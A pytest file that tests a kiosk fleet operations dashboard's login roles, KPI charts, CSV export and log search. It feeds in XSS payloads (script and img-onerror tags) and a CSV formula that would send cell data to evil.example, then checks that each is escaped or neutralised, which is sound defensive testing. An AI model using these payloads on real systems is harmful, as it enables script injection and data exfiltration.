"""The operations dashboard: /ops behind the staff login (role it), fleet with each kiosk's health and the
alerts, KPIs per day, ward and kiosk with SVG charts, the CSV export, the sync-log search. Driven in headless
Chromium on SQLite and PostgreSQL; attacked with what kiosks could send (XSS, CSV formulas) and by roles.
Screenshots go to the test's folder, or to docs/screenshots when KIOSK_SCREENSHOTS=1."""

from __future__ import annotations

import csv
import io
import os
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest

from backoffice.services.postcheck import revoke
from tests.backoffice.browser import chromium
from tests.backoffice.city import IT_USER, OFFICER_USER, CityOffice, staff_login, visit_metrics
from tests.backoffice.helpers import PASSWORD, Kiosks
from tests.sync.helpers import Pki

REPO = Path(__file__).resolve().parents[2]
SCREENSHOTS = REPO / "docs" / "screenshots"
XSS_VERSION = "<script>window.__pwned=1</script>1.4.2"
XSS_DETAIL = '"><img src=x onerror="window.__pwned=2">'
FORMULA_WARD = '=HYPERLINK("http://evil.example/?"&A1,"Phường")'


def _at(days_ago: int, hour: int = 9) -> str:
    moment = datetime.now(UTC).replace(hour=hour - 7 if hour >= 7 else 0, minute=0, second=0, microsecond=0)
    return (moment - timedelta(days=days_ago)).isoformat()


def populate(city: CityOffice) -> dict[str, Any]:
    """Two kiosks' worth of visits, heartbeats, logs, a revocation and a staff call."""
    city.add_staff()
    assert city.db is not None
    # The city names HN-002's ward (a copy's ward is its kiosk's, issue 24): a formula, to attack the CSV.
    city.db.set_kiosk_ward("HN-002", FORMULA_WARD, by="tests")
    visits = [
        ("HN-001", 2, 240.0, "Phường Hàng Bạc", 0, 1, 0),
        ("HN-001", 1, 280.0, "Phường Hàng Bạc", 1, 2, 1),
        ("HN-001", 1, 420.0, "Phường Hàng Bạc", 2, 1, 0),
        ("HN-002", 0, 200.0, FORMULA_WARD, 0, 3, 1),
        ("HN-002", 0, 360.0, "-1+2", 0, 1, 0),
    ]
    codes = []
    for kiosk, days, seconds, ward, rescans, face_attempts, face_failures in visits:
        code, _ = city.issue_with_secret(
            kiosk,
            created_at=_at(days),
            language="vi",
            visit_metrics=visit_metrics(
                seconds, ward=ward, rescans=rescans, face_attempts=face_attempts, face_failures=face_failures,
                liveness_attempts=2, liveness_failures=1 if rescans else 0,
            ),
        )  # fmt: skip
        codes.append(code)
    revoke(city.db, codes[2], username="lan.officer", reason="trang 2 mờ")
    devices_ok = [
        {"name": "scanner", "kind": "simulated", "state": "ok", "detail": "ready"},
        {"name": "receipt_printer", "kind": "simulated", "state": "ok", "detail": "ready"},
    ]
    for backlog in (1, 3, 5):
        city.heartbeat("HN-001", backlog=backlog, dead=2, software_version="1.4.2", ward="Phường Hàng Bạc",
                       devices=devices_ok)  # fmt: skip
    city.heartbeat(
        "HN-002",
        backlog=0,
        software_version=XSS_VERSION,
        ward="<b>Phường Tràng Tiền</b>",
        devices=[{"name": "receipt_printer", "kind": "escpos", "state": "error", "detail": XSS_DETAIL}],
    )
    with city.db._tx() as cur:  # HN-002 has been silent for 40 minutes
        old = datetime.now(UTC) - timedelta(minutes=40)
        kiosk_clock = (old - timedelta(seconds=90)).isoformat()  # its clock runs 90 s slow
        cur.execute(
            "UPDATE heartbeats SET received_at = ?, sent_at = ? WHERE kiosk_id = ?",
            (old.isoformat(), kiosk_clock, "HN-002"),
        )
    now = datetime.now(UTC)
    city.log_lines("HN-001", [
        {"time": (now - timedelta(hours=3)).isoformat(), "code": codes[0], "outcome": "synced", "status": 201},
        {"time": (now - timedelta(hours=2)).isoformat(), "code": codes[1], "outcome": "retry", "status": 503,
         "error": "<img src=x onerror=alert(3)>"},
        {"time": (now - timedelta(minutes=5)).isoformat(), "code": codes[1], "outcome": "synced", "status": 201},
    ])  # fmt: skip
    city.log_lines("HN-002", [{"time": (now - timedelta(hours=1)).isoformat(), "code": codes[3], "outcome": "dead_letter",
                              "status": 422, "error": "conflict"}])  # fmt: skip
    with city.kiosk("HN-002") as client:
        call = {"call_id": uuid.uuid4().hex, "reason": "device_fault", "visit_ref": ""}
        assert client.post("/v1/staff-calls", json=call).status_code in (200, 201)
    return {"codes": codes}


def _write_screenshots(city: CityOffice) -> bool:
    """Into docs/screenshots only when asked (KIOSK_SCREENSHOTS=1), and from the SQLite run."""
    return os.environ.get("KIOSK_SCREENSHOTS") == "1" and city.kind == "sqlite"  # type: ignore[attr-defined]


@pytest.fixture(params=["sqlite", "postgresql"])
def city(request: pytest.FixtureRequest, pki: Pki, kiosks: Kiosks, tmp_path: Path) -> Iterator[CityOffice]:
    db_url = request.getfixturevalue("postgres").new_database() if request.param == "postgresql" else ""
    office = CityOffice(pki, kiosks, tmp_path / "backend", db_url=db_url).start()
    office.kind = request.param  # type: ignore[attr-defined]
    yield office
    office.stop()


@pytest.fixture
def sqlite_city(pki: Pki, kiosks: Kiosks, tmp_path: Path) -> Iterator[CityOffice]:
    office = CityOffice(pki, kiosks, tmp_path / "backend").start()
    yield office
    office.stop()


def test_ops_needs_a_login_with_the_it_role(sqlite_city: CityOffice) -> None:
    populate(sqlite_city)
    base = sqlite_city.public_url
    for path in ("/ops", "/ops/kpis.csv", "/ops/logs"):
        anonymous = httpx.get(base + path, timeout=60)
        assert anonymous.status_code == 303 and anonymous.headers["location"] == "/login", path
        assert "HN-001" not in anonymous.text
    for path in ("/api/ops/fleet", "/api/ops/kpis", "/api/ops/logs"):
        assert httpx.get(base + path, timeout=60).status_code == 401, path
    # A forged cookie is no session.
    assert httpx.get(base + "/api/ops/fleet", cookies={"kb_session": "0" * 43}, timeout=60).status_code == 401
    with staff_login(sqlite_city, OFFICER_USER) as officer:  # an officer is not central IT
        assert officer.get("/ops").status_code == 403
        assert officer.get("/api/ops/fleet").status_code == 403
        assert "HN-001" not in officer.get("/ops/kpis.csv").text
    with staff_login(sqlite_city, IT_USER) as it:
        page = it.get("/ops")
        assert page.status_code == 200
        assert "HN-001" in page.text and "HN-002" in page.text
        fleet = it.get("/api/ops/fleet").json()
    by_id = {k["kiosk_id"]: k for k in fleet["kiosks"]}
    assert by_id["HN-001"]["software_version"] == "1.4.2"
    assert by_id["HN-001"]["backlog"] == 5 and by_id["HN-001"]["backlog_growing"] is True
    assert by_id["HN-002"]["devices"][0]["state"] == "error"
    assert by_id["HN-002"]["clock_offset_s"] == pytest.approx(-90, abs=1)
    kinds = {(a["kind"], a["kiosk_id"]) for a in fleet["alerts"]}
    assert kinds >= {
        ("backlog", "HN-001"),
        ("dead_letters", "HN-001"),
        ("device", "HN-002"),
        ("silent", "HN-002"),
        ("staff_call", "HN-002"),
    }
    assert ("silent", "HN-001") not in kinds


def test_kpis_per_kiosk_ward_and_day(sqlite_city: CityOffice) -> None:
    populate(sqlite_city)
    with staff_login(sqlite_city) as it:
        rows = {r["group"]: r for r in it.get("/api/ops/kpis", params={"by": "kiosk"}).json()["kpis"]}
        wards = {r["group"] for r in it.get("/api/ops/kpis", params={"by": "ward"}).json()["kpis"]}
        days = it.get("/api/ops/kpis", params={"by": "day"}).json()["kpis"]
        assert it.get("/api/ops/kpis", params={"by": "nonsense"}).status_code == 400
    one = rows["HN-001"]
    assert (one["copies"], one["pages"]) == (3, 3)
    assert one["on_time_rate"] == pytest.approx(2 / 3, abs=1e-3)  # 240 s and 280 s on time, 420 s late
    assert one["late_rate"] == pytest.approx(1 / 3, abs=1e-3)
    assert one["median_visit_s"] == 280.0
    assert one["rescans_per_page"] == pytest.approx(3 / 6, abs=1e-3)  # 3 rescans over 6 pages scanned
    assert one["face_failure_rate"] == pytest.approx(1 / 4, abs=1e-3)
    assert one["liveness_failure_rate"] == pytest.approx(2 / 6, abs=1e-3)
    assert (one["post_check_backlog"], one["revocations"]) == (2, 1)
    assert rows["HN-002"]["on_time_rate"] == pytest.approx(0.5)
    # Wards are the kiosks' wards as the city set them, not what a record claims ("-1+2").
    assert wards == {"Phường Hàng Bạc", FORMULA_WARD}
    assert sum(d["copies"] for d in days) == 5 and len(days) == 3


def test_csv_export_neutralises_formulas(sqlite_city: CityOffice) -> None:
    populate(sqlite_city)
    with staff_login(sqlite_city) as it:
        answer = it.get("/ops/kpis.csv", params={"by": "ward"})
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert rows[0][:4] == ["ward", "copies", "pages", "on_time_rate"]
    cells = [row[0] for row in rows[1:]]
    assert "'" + FORMULA_WARD in cells and "Phường Hàng Bạc" in cells and "'-1+2" not in cells
    assert not any(cell[:1] in "=+-@" for row in rows for cell in row if cell)


def test_log_search_by_kiosk_code_outcome_and_time(sqlite_city: CityOffice) -> None:
    data = populate(sqlite_city)
    with staff_login(sqlite_city) as it:

        def search(**q: str) -> list[dict[str, Any]]:
            answer = it.get("/api/ops/logs", params=q)
            assert answer.status_code == 200, answer.text
            return answer.json()["entries"]

        assert {e["kiosk"] for e in search(kiosk="HN-002")} == {"HN-002"}
        assert [e["outcome"] for e in search(code=data["codes"][1])] == ["synced", "retry"]
        assert [e["kiosk"] for e in search(outcome="dead_letter")] == ["HN-002"]
        since = (datetime.now(UTC) - timedelta(hours=1, minutes=30)).isoformat()
        assert [e["outcome"] for e in search(kiosk="HN-001", since=since)] == ["synced"]
        assert search(kiosk="HN-001", until=since, outcome="retry")[0]["status"] == 503
        assert it.get("/api/ops/logs", params={"since": "yesterday"}).status_code == 400
        page = it.get("/ops/logs", params={"outcome": "retry"})
    assert "&lt;img src=x onerror=alert(3)&gt;" in page.text and "<img src=x" not in page.text


def test_dashboard_in_chromium(city: CityOffice, tmp_path: Path) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as ec
    from selenium.webdriver.support.ui import WebDriverWait

    populate(city)
    with chromium(1400, 1800) as browser:
        driver: Any = browser
        driver.get(city.public_url + "/ops")
        WebDriverWait(driver, 30).until(ec.url_contains("/login"))  # no session: the login page
        driver.find_element(By.NAME, "username").send_keys(IT_USER)
        driver.find_element(By.NAME, "password").send_keys(PASSWORD)
        driver.find_element(By.CSS_SELECTOR, "form [type=submit]").click()
        WebDriverWait(driver, 30).until(ec.url_contains("/ops"))  # an it account lands on the dashboard
        WebDriverWait(driver, 30).until(ec.presence_of_element_located((By.ID, "fleet")))
        ids = [e.text for e in driver.find_elements(By.CSS_SELECTOR, "#fleet td.kiosk-id")]
        assert ids == ["HN-001", "HN-002"]
        fleet_text = driver.find_element(By.ID, "fleet").text
        assert XSS_VERSION in fleet_text and "<b>Phường Tràng Tiền</b>" in fleet_text  # shown as text
        assert driver.execute_script("return window.__pwned || 0") == 0
        assert driver.find_elements(By.CSS_SELECTOR, "#fleet img") == []
        alerts = driver.find_element(By.ID, "alerts").text
        for label in ("Thiết bị lỗi", "Tồn đồng bộ tăng", "Ki-ốt im lặng", "Thư chết", "Gọi cán bộ"):
            assert label in alerts
        bars = driver.find_elements(By.CSS_SELECTOR, "#chart-copies rect.bar")
        assert len(bars) == 3  # three days
        assert len(driver.find_elements(By.CSS_SELECTOR, "#chart-copies circle.rate")) == 3
        kpi_rows = driver.find_elements(By.CSS_SELECTOR, "#kpi-table tr.kpi")
        assert len(kpi_rows) == 3
        total = driver.find_element(By.CSS_SELECTOR, "#kpi-table tr.total").text
        assert total.startswith("Tổng 5 5 60 % 40 %")  # 3 of 5 visits within 5 minutes
        folder = SCREENSHOTS if _write_screenshots(city) else tmp_path
        folder.mkdir(parents=True, exist_ok=True)
        driver.save_screenshot(str(folder / "ops-dashboard.png"))
        # By kiosk, in English.
        driver.get(city.public_url + "/ops?by=kiosk&lang=en")
        WebDriverWait(driver, 30).until(ec.presence_of_element_located((By.ID, "kpi-table")))
        groups = [
            r.find_element(By.TAG_NAME, "td").text for r in driver.find_elements(By.CSS_SELECTOR, "tr.kpi")
        ]
        assert groups == ["HN-001", "HN-002"]
        assert "Growing backlog" in driver.find_element(By.ID, "alerts").text
        # The log search, from its form.
        driver.find_element(By.ID, "logs-link").click()
        WebDriverWait(driver, 30).until(ec.presence_of_element_located((By.ID, "log-search")))
        driver.find_element(By.ID, "q-kiosk").send_keys("HN-001")
        driver.find_element(By.ID, "search").click()
        WebDriverWait(driver, 30).until(ec.url_contains("kiosk=HN-001"))
        rows = driver.find_elements(By.CSS_SELECTOR, "#log-table tr.log-entry")
        assert len(rows) == 3 and all("HN-001" in r.text for r in rows)
        assert driver.execute_script("return window.__pwned || 0") == 0
        driver.save_screenshot(str(folder / "ops-logs.png"))
